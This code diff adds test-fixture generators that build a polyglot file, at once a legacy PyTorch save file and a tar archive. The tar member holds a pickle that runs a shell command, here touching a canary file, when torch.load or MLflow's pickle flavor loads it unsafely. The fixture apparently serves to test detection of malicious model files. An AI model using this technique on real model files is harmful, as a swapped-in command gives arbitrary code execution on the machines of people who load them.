@@ -224,3 +224,69 @@ def storages_out_of_order(dest: Path) -> Path:
         writer.write_record(rec, records[rec], len(records[rec]))
     writer.write_end_of_file()
     return dest
+
+
+def _legacy_head(sys_info_pad: str) -> bytes:
+    """The first three streams of a legacy torch file (magic, protocol version, sys_info), with
+    ``sys_info_pad`` as an extra sys_info value (torch reads only the keys it knows)."""
+    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
+    proto = b"\x80\x02M\xe9\x03."
+
+    def su(s: str) -> bytes:
+        b = s.encode()
+        return b"X" + struct.pack("<I", len(b)) + b
+
+    return magic + proto + (b"\x80\x02}(" + su("pad") + su(sys_info_pad) + su("protocol_version") + b"M\xe9\x03"
+                            + su("little_endian") + b"\x88" + su("type_sizes") + b"}(" + su("short") + b"K\x02"
+                            + su("int") + b"K\x04" + su("long") + b"K\x08uu.")
+
+
+def _legacy_tail(nbytes: int) -> bytes:
+    """The data pickle and key list of a real legacy torch.save of one uint8 tensor of ``nbytes``, and the
+    storage's element count (its raw bytes follow)."""
+    buf = io.BytesIO()
+    torch.save({"w": torch.zeros(nbytes, dtype=torch.uint8)}, buf, _use_new_zipfile_serialization=False)
+    import pickletools
+
+    f = io.BytesIO(buf.getvalue())
+    ends = []
+    for _ in range(5):
+        for _op in pickletools.genops(f):  # walks one stream to its STOP without running it
+            pass
+        ends.append(f.tell())
+    return buf.getvalue()[ends[2]:ends[4] + 8]
+
+
+def legacy_torch_tar(dest: Path, canary: Path) -> Path:
+    """A legacy torch.save file (five pickle streams, raw storages) that is also a tar archive: its first 512
+    bytes are a valid tar header (the fields sit in a string of sys_info), and a member ``storages`` holding a
+    payload pickle lies inside the raw bytes of a uint8 storage. torch.load tries tar before the legacy
+    streams: with weights_only=False (MLflow's pickle flavor) it unpickles that member."""
+    probe = _legacy_head("")
+    start = probe.index(b"X\x00\x00\x00\x00") + 5  # where the pad string's content begins
+    head = _legacy_head("\x00" * (512 - start))
+    block = bytearray(head[:512])
+    for off, text in ((100, b"0000644\x00"), (108, b"0000000\x00"), (116, b"0000000\x00"),
+                      (136, b"00000000000\x00"), (156, b"0"), (257, b"ustar\x0000")):
+        block[off:off + len(text)] = text
+    evil = pickle.dumps(_System(f"touch {canary / 'tar'}"), protocol=0)
+    member = _tar_header("storages", len(evil)) + evil + b"\x00" * (-len(evil) % 512) + b"\x00" * 1024
+    nbytes = 512 * 4 + len(member)
+    tail = _legacy_tail(nbytes)
+    body_len = len(head) + len(tail)
+    at = -(-body_len // 512) * 512  # the first block boundary inside the storage's bytes
+    block[124:136] = b"%011o\x00" % (at - 512)
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\x00 " % sum(block)
+    head = _legacy_head(bytes(block[start:]).decode("ascii"))
+    raw = b"\x00" * (at - body_len) + member
+    dest.write_bytes(head + tail + raw + b"\x00" * (nbytes - len(raw)))
+    return dest
+
+
+def _tar_header(name: str, size: int) -> bytes:
+    import tarfile
+
+    info = tarfile.TarInfo(name)
+    info.size, info.mtime = size, 0
+    return info.tobuf(format=tarfile.USTAR_FORMAT)
